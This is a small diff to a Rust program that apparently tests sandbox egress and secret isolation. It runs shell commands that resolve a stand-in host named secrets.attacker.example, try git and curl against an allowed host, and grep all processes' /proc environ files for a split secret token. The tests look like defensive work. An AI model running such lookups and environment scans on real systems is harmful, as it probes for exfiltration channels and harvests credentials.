@@ -36,7 +36,7 @@ fn main() -> Result<()> {
         "getent hosts secrets.attacker.example; echo rc=$?",
         "git ls-remote https://allowed.example/r.git 2>&1; git -c http.extraHeader=x push https://allowed.example/r.git HEAD 2>&1; \
          curl -sS -m 5 'https://allowed.example/r.git/info/refs?service=git-receive-pack'",
-        &format!("n='{head}''{tail}'; cat /proc/[0-9]*/environ | /usr/bin/grep -aqF -e \"$n\"; echo found=$?"),
+        &format!("n='{head}''{tail}'; cat /proc/[0-9]*/environ 2>/dev/null | /usr/bin/grep -aqF -f <(printf %s \"$n\"); echo found=$?"),
     ])?;
     let stderr = &run.stderr;
     writeln!(stdout(), "{stderr}")?;
